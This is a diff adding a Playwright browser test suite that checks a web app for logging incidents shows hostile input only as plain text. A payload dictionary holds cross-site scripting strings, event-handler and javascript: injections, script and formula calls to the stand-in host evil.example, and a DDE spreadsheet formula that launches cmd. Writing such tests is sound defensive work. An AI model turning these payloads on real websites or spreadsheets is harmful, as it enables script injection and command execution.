@@ -1,0 +1,296 @@
+"""Text that would like to be more than text: shown as typed, on every page, and nothing else."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import Browser, Locator, Page, expect
+
+from tests.browser.conftest import at_rest
+from tests.browser.server import Server
+from tests.browser.tab import told, until
+
+pytestmark = pytest.mark.long
+
+# Whatever runs a script puts its name here; whatever is fetched goes to this host.
+HOST = "evil.example"
+PAYLOADS = {
+    "script": f"<script src=//{HOST}/a.js></script><script>window.ran='script'</script>",
+    "handler": f"<img src=http://{HOST}/b onerror=window.ran='img'><svg/onload=window.ran='svg'>",
+    "closing": "</p></div></details><h1>Not ours</h1><style>*{display:none}</style><!--",
+    "entity": "&lt;b&gt; &amp;amp; &#60;i&#62; &nbsp;",
+    "markdown": f"# A **b** _c_ `d` ~~e~~\n\n- f\n1. g\n> h\n\n[i](http://{HOST}/c) <http://{HOST}>",
+    "image": f"![a](http://{HOST}/d.png) ![b][1]\n\n[1]: //{HOST}/e.png",
+    "javascript": "[a](javascript:window.ran='link') javascript:window.ran='x'",
+    "autolink": f"http://{HOST}/f www.{HOST} me@{HOST} tel:999",
+    "maths": r"$x^2$ $$\frac{1}{2}$$ \(y\) \[z\] $\href{javascript:window.ran=1}{k}$",
+    "colour": ":red[stop] :blue-background[go] :material/home: :rainbow[r] :small[s] :tulip:",
+    "braces": "{name} {0} {} %s %(x)s ${HOME} {{7*7}} <%= 7*7 %>",
+    "formula": f'=HYPERLINK("http://{HOST}/g","Click")',
+    "formulas": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "bidi": "safe \u202etxet desrever \u2066end \u200fx",
+    "zero_width": "a\u200bb\u200cc\u200dd\ufeffe\u00adf\u2060g",
+    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 Z\u0351\u036b\u0343",
+    "long": "m" * 4_000,
+    "long_lines": "\n".join("w" * 300 for _ in range(10)),
+}
+FIELDS = ("what_happened", "where", "effect", "evidence", "witnesses")
+PAGES = (
+    "", "questions", "check_answers", "incidents", "what_this_is",
+    "timeline", "case_review", "how_to_apply", "help", "about",
+)  # fmt: skip
+# What a page would have of its own had a text become more than text.
+TURNED = f"""[onerror], [onload], .katex, iframe, object, embed, base, form, .sc-typed *,
+  a[href*="{HOST}"], a[href^="javascript"], img[src^="http"], link[href*="{HOST}"], s, del"""
+
+
+def incident(number: int, payload: str) -> dict[str, object]:
+    """Return an incident with one text in every field that takes one."""
+    report = {
+        "id": f"r{number}", "date": f"2026-10-{number + 2:02}", "to": "police", "by": "neighbour",
+        "person": payload[:80], "reference": payload[:80], "response": payload,
+    }  # fmt: skip
+    return {
+        "id": f"i{number}", "date": f"2026-10-{number + 1:02}", "kinds": ["abusive_language"],
+        **dict.fromkeys(FIELDS, payload), "reports": [report],
+    }  # fmt: skip
+
+
+def case() -> dict[str, object]:
+    return {
+        "format": "selfcheck-case",
+        "version": 1,
+        "nation": "england",
+        "area": "E08000035",
+        "reference": PAYLOADS["handler"][:80],
+        "adviser_notes": PAYLOADS["markdown"],
+        "answers": {"repeated": "yes", "distress": "yes", "unwanted": "yes"},
+        "incidents": [incident(n, text) for n, text in enumerate(PAYLOADS.values())],
+    }
+
+
+class Reader:
+    """A reader on a narrow phone, who notes whatever goes out or runs."""
+
+    def __init__(self, page: Page, server: Server) -> None:
+        self.page, self.server = page, server
+        self.asked: list[str] = []
+        page.context.on("request", lambda request: self.asked.append(request.url))
+        page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
+
+    def open_file(self, content: object, path: Path) -> None:
+        self.page.goto(self.server.address)
+        path.write_text(json.dumps(content))
+        self.page.get_by_text("Open a file you saved").click()
+        self.page.locator("input[type=file]").first.set_input_files(path)
+
+    def expect_kept(self, incidents: int) -> None:
+        """Wait until the tab holds that many incidents."""
+        kept = lambda: len(told(self.page).get("incidents-0", ())) == incidents  # noqa: E731
+        until(self.page, kept, lambda: "the tab was not told of the file")
+        at_rest(self.page)
+
+    def open(self, name: str) -> None:
+        self.page.goto(f"{self.server.address}/{name}")
+        expect(self.page.get_by_role("heading", level=1)).to_be_visible()
+        at_rest(self.page)
+
+    def expect_only_text(self) -> None:
+        """Everything folded is unfolded, and nothing on the page is more than text."""
+        self.page.evaluate("document.querySelectorAll('details').forEach((it) => it.open = true)")
+        at_rest(self.page)
+        turned = self.page.locator(TURNED)
+
+        assert turned.evaluate_all("them => them.map((it) => it.outerHTML.slice(0, 200))") == []
+        assert self.page.evaluate("window.ran") is None
+        assert self.page.get_by_role("heading", name="Not ours").count() == 0
+        expect(self.page.get_by_role("button", name="Exit this page")).to_be_visible()
+        assert self.too_wide() == []
+        hosts = {urlsplit(url).netloc for url in self.asked if url.startswith("http")}
+        assert hosts == {urlsplit(self.server.address).netloc}
+
+    def too_wide(self) -> list[str]:
+        """Return what stands out of a narrow screen, but for what scrolls by itself."""
+        found: list[str] = self.page.evaluate("""() => {
+          const wide = document.documentElement.clientWidth;
+          const scrolls = (it) => it && it !== document.body && (it.scrollWidth > it.clientWidth
+            && ["auto", "scroll", "hidden", "clip"].includes(getComputedStyle(it).overflowX)
+            && it.dataset.testid !== "stMain" || scrolls(it.parentElement));
+          const out = [...document.querySelectorAll("main *, section *")].filter((it) =>
+            it.getClientRects().length && it.getBoundingClientRect().right > wide + 1
+            && !scrolls(it.parentElement));
+          const main = document.querySelector('[data-testid="stMain"]');
+          return [...out.map((it) => it.outerHTML.slice(0, 160)),
+            ...[document.documentElement, main].filter((it) => it.scrollWidth > it.clientWidth + 1)
+              .map((it) => `${it.tagName} scrolls sideways`)];
+        }""")
+        return found
+
+
+@pytest.fixture
+def reader(browser: Browser, server: Server) -> Iterator[Reader]:
+    context = browser.new_context(
+        viewport={"width": 320, "height": 640}, locale="en-GB", accept_downloads=True
+    )
+    yield Reader(context.new_page(), server)
+    context.close()
+
+
+def typed(within: Page | Locator) -> list[str]:
+    """Return the texts that people typed as they stand on screen, letter by letter."""
+    found: list[str] = within.locator(".sc-typed").evaluate_all(
+        "them => them.map((it) => it.textContent)"
+    )
+    return found
+
+
+def test_an_opened_file_is_shown_as_typed_on_every_page(reader: Reader, tmp_path: Path) -> None:
+    reader.open_file(case(), tmp_path / "case.json")
+    reader.expect_kept(len(PAYLOADS))
+    for name in PAGES:
+        reader.open(name)
+        reader.expect_only_text()
+
+    reader.open("incidents")
+    shown = typed(reader.page)
+    for name, text in PAYLOADS.items():
+        assert shown.count(text) >= len(FIELDS), name
+        assert text[:80] in shown, name
+
+
+@pytest.mark.parametrize("name", PAYLOADS)
+def test_what_is_typed_stands_in_the_form_and_the_list_as_typed(
+    reader: Reader, tmp_path: Path, name: str
+) -> None:
+    text = PAYLOADS[name]
+    page = reader.page
+    reader.open_file(case() | {"incidents": [incident(0, "shouting")]}, tmp_path / "case.json")
+    reader.expect_kept(1)
+    reader.open("incidents")
+    page.get_by_role("button", name=re.compile("^Change 1 October")).click()
+    field = page.get_by_role("textbox", name=re.compile("^What happened"))
+    field.fill(text)
+    page.get_by_role("button", name="Save", exact=True).click()
+    expect(page.get_by_role("heading", level=1)).to_have_text("Your incidents")
+    at_rest(page)
+    reader.expect_only_text()
+
+    assert text.strip() in typed(page)
+    page.get_by_role("button", name=re.compile("^Change 1 October")).click()
+    expect(field).to_have_value(text.strip())
+    reader.expect_only_text()
+
+
+def test_a_search_for_an_area_never_shows_more_than_it_found(reader: Reader) -> None:
+    page = reader.page
+    reader.open("questions")
+    for _ in range(12):
+        if page.get_by_label("Postcode or council name").count():
+            break
+        before = page.get_by_role("heading", level=1).inner_text()
+        page.get_by_role("button", name="Skip").click()
+        expect(page.get_by_role("heading", level=1)).not_to_have_text(before)
+        at_rest(page)
+    for text in PAYLOADS.values():
+        field = page.get_by_label("Postcode or council name")
+        field.fill(text[:200])
+        field.press("Tab")
+        expect(page.locator(".st-key-sc_found")).to_be_visible()
+        at_rest(page)
+        reader.expect_only_text()
+
+
+def test_what_cannot_be_read_of_a_file_is_shown_as_it_stands(
+    reader: Reader, tmp_path: Path
+) -> None:
+    texts = [text for name, text in PAYLOADS.items() if not name.startswith("long")]
+    broken = [
+        incident(n, text) | {"date": "2026-02-31", text[:30]: text} for n, text in enumerate(texts)
+    ]
+    reader.open_file(case() | {"incidents": broken}, tmp_path / "case.json")
+    page = reader.page
+    expect(page.get_by_role("heading", name="What we could not read")).to_be_visible()
+    at_rest(page)
+    reader.expect_only_text()
+
+    shown = "\n".join(typed(page))
+    assert [text for text in texts if text not in shown] == []
+
+
+@pytest.mark.parametrize("name", ["handler", "markdown", "maths", "bidi", "closing"])
+def test_a_refused_file_says_why_in_plain_text(reader: Reader, tmp_path: Path, name: str) -> None:
+    reader.open_file(
+        {PAYLOADS[name]: PAYLOADS[name], "version": PAYLOADS[name]}, tmp_path / "x.json"
+    )
+    expect(reader.page.get_by_text("We could not open that file.")).to_be_visible()
+    at_rest(reader.page)
+
+    reader.expect_only_text()
+
+
+def test_a_list_is_shown_as_it_stands_before_it_goes_in(reader: Reader, tmp_path: Path) -> None:
+    reader.open("incidents")
+    page = reader.page
+    bring_in(page, tmp_path / f"{PAYLOADS['colour'][:20].replace('/', '')}.csv")
+    expect(page.get_by_role("heading", name="What goes in")).to_be_visible()
+    at_rest(page)
+    reader.expect_only_text()
+    rows = page.locator(".sc-rows span").evaluate_all("them => them.map((it) => it.textContent)")
+
+    for name, text in PAYLOADS.items():
+        start = text.strip()[:100]
+        assert any(start in row for row in rows), name
+    page.get_by_role("button", name=re.compile("^Add ")).click()
+    expect(page.get_by_role("heading", level=1)).to_have_text("Your incidents")
+    at_rest(page)
+    reader.expect_only_text()
+    shown = typed(page)
+    assert [name for name, text in PAYLOADS.items() if text.strip() not in shown] == []
+
+
+def bring_in(page: Page, file: Path) -> None:
+    """Choose a list with a text in each row, in its headings and in dates that are none."""
+    with file.open("w", newline="", encoding="utf-8") as out:
+        writer = csv.writer(out)
+        writer.writerow(["Date", "What happened", PAYLOADS["handler"], PAYLOADS["markdown"]])
+        for number, text in enumerate(PAYLOADS.values()):
+            writer.writerow([f"{number + 1}/10/2026", text, text[:500], ""])
+            writer.writerow([text[:500], text, "", text[:500]])
+    page.get_by_text("Bring in a list, save it or print a sheet").click()
+    page.get_by_role("button", name="Bring in a list from a file").click()
+    page.locator("input[type=file]").first.set_input_files(file)
+
+
+def test_no_cell_of_a_saved_list_is_run_by_a_spreadsheet(reader: Reader, tmp_path: Path) -> None:
+    reader.open_file(case(), tmp_path / "case.json")
+    reader.expect_kept(len(PAYLOADS))
+    reader.open("incidents")
+    reader.page.get_by_text("Bring in a list, save it or print a sheet").click()
+    with reader.page.expect_download() as download:
+        reader.page.get_by_role("button", name="Save the list as a spreadsheet").click()
+    text = download.value.path().read_text("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+    assert f"'{PAYLOADS['formula']}" in cells
+    assert f"'{PAYLOADS['formulas']}" in cells
+    assert [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@\t\r")] == []
+
+
+def test_a_text_that_turns_directions_turns_none_of_our_words(
+    reader: Reader, tmp_path: Path
+) -> None:
+    reader.open("incidents")
+    bring_in(reader.page, tmp_path / "list.csv")
+    expect(reader.page.get_by_role("heading", name="What goes in")).to_be_visible()
+    at_rest(reader.page)
+    said = reader.page.locator(".sc-wrong").evaluate_all("them => them.map((it) => it.textContent)")
+
+    assert any("txet desrever" in one for one in said)
+    assert [one for one in said if re.search("[\u202a-\u202e\u2066-\u2069]", one)] == []
